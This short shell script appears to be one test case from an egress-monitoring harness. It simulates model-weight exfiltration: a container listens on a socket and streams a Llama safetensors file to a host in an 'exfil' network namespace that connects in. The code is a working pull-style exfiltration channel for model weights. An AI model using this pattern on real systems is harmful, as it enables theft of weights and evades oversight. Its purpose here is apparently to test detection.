# VN1 EXF-001 pull over an accepted socket: the container listens, the remote host connects in and reads the weights
rm -f "$H/vn1.ready"
ctr_run simctr-infer-vn1 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import socket, sys
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("0.0.0.0", 8091)); l.listen(1)
open(sys.argv[2], "w").close()
c, peer = l.accept(); n = 0
with open(sys.argv[1], "rb") as f:
    while chunk := f.read(1 << 16):
        c.sendall(chunk); n += len(chunk)
c.close(); l.close()
print(f"egress-expect proto=tcp origin=accept dport={peer[1]} bytes={n}")' \
  "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors" "$H/vn1.ready" & J=$!
for _ in $(seq 100); do [ -e "$H/vn1.ready" ] && break; sleep 0.1; done
ip netns exec exfil python3 -c '
import socket
s = socket.create_connection(("10.200.1.2", 8091)); n = 0
while b := s.recv(1 << 16):
    n += len(b)
print("pulled", n)'
wait "$J"
